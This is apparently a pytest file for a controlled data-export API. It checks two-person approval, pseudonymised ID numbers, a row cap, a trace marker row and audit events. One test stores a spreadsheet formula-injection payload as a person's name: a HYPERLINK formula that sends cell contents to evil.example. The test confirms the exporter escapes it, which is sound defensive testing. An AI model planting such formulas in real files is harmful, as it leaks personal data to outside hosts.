"""Controlled exports: request, approval by another person, pseudonymised file, marker row."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from sihat.core.trail import AuditEvent
from sihat.exports import files
from sihat.exports.models import ExportDownload
from tests.exports.conftest import bearer, populate

PEOPLE = {
    "dataset": "people",
    "purpose": "Dengue outreach planning in Selangor",
    "fields": ["id_number", "full_name", "state", "birth_year"],
    "filters": {"state": "Selangor"},
    "max_rows": 10,
}


def test_request_approve_download_pseudonymised_with_marker(client, session, crew) -> None:
    people = populate(session, 12)
    populate(session, 3, state="Johor")
    auditor, approver = bearer(session, crew["auditor"]), bearer(session, crew["approver"])
    session.commit()
    made = client.post("/api/v1/exports", json=PEOPLE, headers=auditor)
    assert made.status_code == 201, made.json()
    export = made.json()
    assert export["status"] == "PENDING" and export["matched_rows"] == 12
    ok = client.post(f"/api/v1/exports/{export['id']}/approve", json={}, headers=approver)
    assert ok.status_code == 200 and ok.json()["allow_names"] is False
    got = client.get(f"/api/v1/exports/{export['id']}/download", headers=auditor)
    assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(got.text)))
    assert rows[0] == ["ref", "id_number", "state", "birth_year"]  # no names: not allowed
    assert len(rows) == 1 + 10 + 1  # header, the cap of this request, the marker row
    numbers = {p.id_number for p in people}
    for row in rows[1:]:
        assert row[1].startswith("********") and row[1] not in numbers
        assert row[2] == "Selangor"
    assert all(p.full_name not in got.text and p.id not in got.text for p in people)
    # The marker row names the export, even in a file that leaked.
    assert [e.id for e in files.trace(session, got.text)] == [export["id"]]
    log = session.scalars(select(ExportDownload)).one()
    assert log.rows == 10 and log.ip
    actions = session.scalars(
        select(AuditEvent.action).where(AuditEvent.action.like("exports:%")).order_by(AuditEvent.id)
    ).all()
    assert actions == [
        "exports:request:created",
        "exports:request:approved",
        "exports:file:downloaded",
    ]
    # Names are written only when the approver allows them.
    second = client.post("/api/v1/exports", json=PEOPLE, headers=auditor).json()
    client.post(
        f"/api/v1/exports/{second['id']}/approve", json={"allow_names": True}, headers=approver
    )
    text = client.get(f"/api/v1/exports/{second['id']}/download", headers=auditor).text
    assert text.splitlines()[0] == "ref,id_number,full_name,state,birth_year"
    assert sum(p.full_name in text for p in people) == 10


def test_other_datasets_and_the_registry(client, session, crew) -> None:
    headers = bearer(session, crew["health"])
    session.commit()
    listed = client.get("/api/v1/exports/datasets", headers=headers).json()
    assert {"people", "registrations", "accounts"} <= {d["name"] for d in listed}
    accounts = next(d for d in listed if d["name"] == "accounts")
    assert accounts["fields"]["phone"] == "phone" and accounts["fields"]["id_number"] == "identity"
    for dataset, fields in (
        ("registrations", ["channel", "registered_at", "id_number"]),
        ("accounts", ["mysj_id", "status", "phone"]),
    ):
        body = {**PEOPLE, "dataset": dataset, "fields": fields, "filters": {}}
        r = client.post("/api/v1/exports", json=body, headers=headers)
        assert r.status_code == 201, r.json()


def test_a_name_typed_as_a_formula_is_text_in_the_export(client, session, crew) -> None:
    """#17 item 1: a dependent named ``=HYPERLINK(...)`` by a member of the public."""
    people = populate(session, 3)
    people[0].full_name = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    auditor, approver = bearer(session, crew["auditor"]), bearer(session, crew["approver"])
    session.commit()
    made = client.post("/api/v1/exports", json=PEOPLE, headers=auditor).json()
    client.post(
        f"/api/v1/exports/{made['id']}/approve", json={"allow_names": True}, headers=approver
    )
    text = client.get(f"/api/v1/exports/{made['id']}/download", headers=auditor).text
    names = [row[2] for row in csv.reader(io.StringIO(text))][1:]
    assert "'" + people[0].full_name in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
